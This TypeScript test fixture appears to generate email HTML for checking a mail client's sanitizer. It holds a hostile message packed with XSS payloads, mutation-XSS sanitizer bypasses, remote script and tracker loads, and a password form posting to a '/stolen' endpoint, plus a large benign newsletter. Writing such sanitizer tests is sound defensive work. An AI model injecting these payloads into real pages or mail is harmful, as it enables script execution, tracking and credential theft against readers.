/** What a mail tries to get a script run by, load something by, or reach the page around it by. */
export function hostileHtml(tracker: string): string {
  const run = "top.hacked=1;parent.hacked=1;window.hacked=1;document.title='hacked'";
  const call = `${tracker}/stolen`;
  return [
    '<h1 id="mail">Hello from a stranger</h1>',
    `<script>${run}</script><SCRIPT SRC="${call}.js"></SCRIPT>`,
    `<img src=x onerror="${run}"><img src="${call}.png"onload="${run}">`,
    `<svg onload="${run}"><script>${run}</script><image href="${call}.png"/></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="${call}.swf"></object><embed src="${call}.swf">`,
    `<link rel=stylesheet href="${call}.css"><style>@import url(${call}.css);`,
    `body{background:red!important;background-image:url(${call}-style.png)}*{color:lime}</style>`,
    `<base href="${tracker}/"><meta http-equiv=refresh content="0;url=${tracker}/page-refresh">`,
    `<div style="position:fixed;inset:0;z-index:9999;background:url(${call}-div.png)">Cover</div>`,
    `<table background="${call}-table.png"><tr><td background="${call}-td.png">x</td></tr></table>`,
    `<video poster="${call}-poster.png" autoplay src="${call}.mp4"></video>`,
    `<audio src="${call}.mp3" autoplay></audio>`,
    `<img srcset="${call}-set.png 2x" src="//${tracker.split('//')[1]}/stolen-protocol.png">`,
    `<picture><source srcset="${call}-source.png"><img src="${call}-picture.png"></picture>`,
    `<input type=image src="${call}-input.png"><body background="${call}-body.png">`,
    `<form action="${call}"><input name=password autofocus onfocus="${run}">`,
    '<button>Go</button></form>',
    `<a id=j href="javascript:${run}">script</a><a href="java&#10;script:${run}">split</a>`,
    `<a href="data:text/html,<script>${run}</script>">data</a><a href="vbscript:${run}">vb</a>`,
    `<details open ontoggle="${run}"><summary>more</summary>x</details>`,
    `<p data-remote-src="javascript:${run}">claimed</p>`,
    `<img data-remote-src="${call}-claimed.png" src="/api/v1/attachments/nothing">`,
    `<div style="height:100vh;height:100dvh">tall</div>`,
    '<p>The last line of the mail.</p>',
    // What follows is another thing to each who reads it, and swallows the rest.
    '<math><mtext><table><mglyph><style><!--</style>',
    `<img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    '</table></mtext></math>',
    `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  ].join('\n');
}

/** A newsletter of about a megabyte: nested tables, one wider than any screen, a folded answer. */
export function newsletterHtml(tracker: string): string {
  const offer = (place: number) =>
    `<tr><td style="padding:12px;border:1px solid #dddddd;background-color:#f7f7f7">` +
    `<table width="100%" cellpadding="4"><tr><td width="120">` +
    `<img src="${tracker}/offer.png?place=${place}" width="100" height="60" alt="Offer"></td>` +
    `<td style="font-family:Arial,sans-serif;font-size:14px;color:#333333"><b>Offer ${place}</b>` +
    `<br>${'A lamp for every room and every evening. '.repeat(16)}</td></tr></table></td></tr>`;
  const columns = Array.from({ length: 40 }, (_, place) => `<td>Column&nbsp;${place}</td>`).join(
    '',
  );
  return (
    '<html><head><style>body{background:#ff0000}h1{color:#00ff00}</style></head><body>' +
    '<table width="640" align="center" bgcolor="#ffffff" style="color:#222222">' +
    '<tr><td><h1 style="font-size:24px">The autumn newsletter</h1></td></tr>' +
    Array.from({ length: 950 }, (_, place) => offer(place)).join('') +
    `</table><table border="1"><tr>${columns}</tr></table>` +
    '<div class="gmail_quote"><blockquote>What was written in spring</blockquote></div>' +
    '</body></html>'
  );
}
